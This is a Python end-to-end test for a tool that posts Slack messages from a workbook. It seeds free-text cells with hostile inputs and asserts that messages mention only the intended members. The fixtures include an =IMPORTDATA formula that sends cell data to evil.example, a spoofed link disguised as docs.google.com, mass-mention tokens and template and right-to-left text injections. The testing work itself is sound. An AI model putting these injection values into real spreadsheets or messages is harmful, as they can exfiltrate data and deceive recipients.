"""Every message of every shipped job, by whole runs, on the strict stand-in: sample and hostile workbook."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from datetime import date, timedelta
from itertools import cycle
from typing import Any

import pytest

from mso_sheets import pipeline
from mso_sheets.adapters.slack.messenger import SlackMessenger
from mso_sheets.model.cells import Cell
from mso_sheets.pipeline import World
from mso_sheets.sample.workbook import sample_workbook
from tests.e2e.slack_cases import TOKEN, Slack
from tests.fakes.book import MemoryStore, MemoryWorkbook
from tests.fakes.runs import at, moment_at, options_of, shipped_job
from tests.making import TODAY, serial, settings_of, snapshot_of

pytestmark = pytest.mark.e2e
Grids = dict[str, list[list[Cell]]]
JOBS = (
    "daily-followups", "weekly-review", "meeting-actions", "knowledge-review", "process-review",
    "refresh",
)  # fmt: skip
MEMBERS = {"Kenji Mori": "U0ALICE01", "Priya Raman": "U0BOB0001", "Elena Petrova": "U0CAROL01"}
MARKED = " <!here> *x*"
HOSTILE = (
    "<!channel> <!here> <!everyone> @channel",
    "<@U0BOB0001> <#C0ALERTS1> <!subteam^S123|@all>",
    '=IMPORTDATA("https://evil.example/?"&A1)',
    "*bold* _it_ ~no~ `code` ```block``` > quote",
    "<https://evil.example|docs.google.com> https://evil.example",
    "[docs](https://evil.example) {{ 7*7 }} {actions/ACT-1@x}",
    "fish & chips < 5 > 4 && <b>bold</b>",
    ":rotating_light: 👩‍👩‍👧‍👦🇩🇪 " * 20,
    "\u202egnp.exe \u200b\u200b\ufeff مرحبا بالعالم",
    "# Heading\n- item\n---\n+ {count} more",
    "very long " * 600,
)
PERSONAL = ["Kenji Mori", f"Kenji Mori{MARKED}"]
KEPT = {
    "Status", "Health", "Stage", "Priority", "Type", "Role", "Country", "Time zone", "Working days",
    "Active", "Direction", "Period", "Case ID", "Email", "Slack ID", "Link", "Notes link",
    "Severity", "Region",
}  # fmt: skip
NAMES = {
    "Owner", "Name", "Manager", "Delegate", "Verifier", "Sponsor", "Chair", "Note taker", "Person",
}  # fmt: skip


def sample() -> Grids:
    """The sample workbook, three of its people in Slack."""
    grids: Grids = {
        tab.title: [[*map(str, tab.headers)], *map(list, tab.rows)]
        for tab in sample_workbook(TODAY)
    }
    people = grids["People"]
    name, member = people[0].index("Name"), people[0].index("Slack ID")
    for row in people[1:]:
        row[member] = MEMBERS.get(str(row[name]), "")
    return grids


def hostile() -> Grids:
    """The sample with 300 more overdue actions, and something hostile in every cell of free text."""
    grids, texts = sample(), cycle(HOSTILE)
    actions = grids["Actions"]
    for number in range(300):
        row = list(actions[1 + number % 20])
        row[0] = f"ACT-9{number:03}"
        actions.append(row)
    for grid in grids.values():
        headers = [str(each) for each in grid[0]]
        for row in grid[1:]:
            for place, header in enumerate(headers):
                text = row[place]
                if (
                    not isinstance(text, str)
                    or not text
                    or header in KEPT
                    or header.endswith(" ID")
                ):
                    continue
                row[place] = f"{text}{MARKED}" if header in NAMES else next(texts)
    _make_late(grids)
    return grids


def _make_late(grids: Grids) -> None:
    """The added actions are open and late by one to forty days."""
    header, *rows = grids["Actions"]
    due = next(n for n, each in enumerate(header) if str(each) in {"Due date", "Deadline"})
    for number, row in enumerate(rows[-300:]):
        row[due] = serial(TODAY - timedelta(days=1 + number % 40))
        row[header.index("Status")] = "In progress"


def run_all(grids: Grids, days: int, **rules: Any) -> tuple[list[str], int]:
    """All jobs on some days against the stand-in: what went wrong, and how many were posted."""
    store, troubles, sent = MemoryStore(snapshot_of(grids)), [], 0
    working = [d for n in range(12) if (d := TODAY + timedelta(days=n)).weekday() < 5][:days]
    for day in working:
        for hour, name in enumerate(JOBS, 9):
            record = _run(store, name, day, hour, rules)
            sent += sum(each.status == "sent" for each in record.messages)
            troubles += [
                f"{each.key}: {each.status} {each.reason}"
                for each in record.messages
                if (each.status in {"failed", "unknown"} and "has no Slack ID" not in each.reason)
                or "incomplete" in each.reason
            ]
            troubles += [note for note in record.notes if "not updated" in note]
    return troubles, sent


def _run(store: MemoryStore, name: str, day: date, hour: int, rules: dict[str, Any]) -> Any:
    job, now = shipped_job(name), at(day, hour)
    world = World(
        MemoryWorkbook(store),
        SlackMessenger(TOKEN, sleep=lambda seconds: None),
        clock=lambda: now,
        pause=lambda seconds: None,
    )
    options = options_of(job, f"8f{day:%d}{hour}", rules=settings_of(channel="#alerts", **rules))
    return pipeline.run(job, replace(world), moment_at(now), options)


@pytest.mark.parametrize("make", [sample, hostile])
@pytest.mark.parametrize("leads", ["", "#alerts"], ids=["to leads", "to a channel of leads"])
def test_every_message_is_valid_and_mentions_only_whom_it_means(
    make: Callable[[], Grids], leads: str
) -> None:
    slack = Slack()
    slack.start_afresh()
    troubles, sent = run_all(make(), 3, leads_channel=leads, digest={"personal": PERSONAL})
    assert troubles == []
    refused = slack.ask("/log?errors=1")["entries"]
    assert [
        (e.get("method"), e.get("error")) for e in refused if "chat." in str(e.get("method"))
    ] == []
    posted = [m for m in slack.ask("/messages")["messages"] if m.get("metadata")]
    loud = [f for m in posted for f in m["lint"] if f["severity"] != "info"]
    kinds = Counter(f["kind"] for f in loud)
    print(  # noqa: T201 -- the harness' answer
        f"{make.__name__}, {leads or 'leads directly'}: {sent} messages, {len(posted)} with their "
        f"threads, findings {dict(kinds)}"
    )
    assert len(posted) >= sent > 5
    assert all(m["text"].strip() for m in posted)
    assert set(kinds) <= {"user_mention"}
    assert {f["target"] for f in loud} <= set(MEMBERS.values())
    for message in posted:
        targets = [f["target"] for f in message["lint"] if f["kind"] == "user_mention"]
        assert len(targets) == len(set(targets))
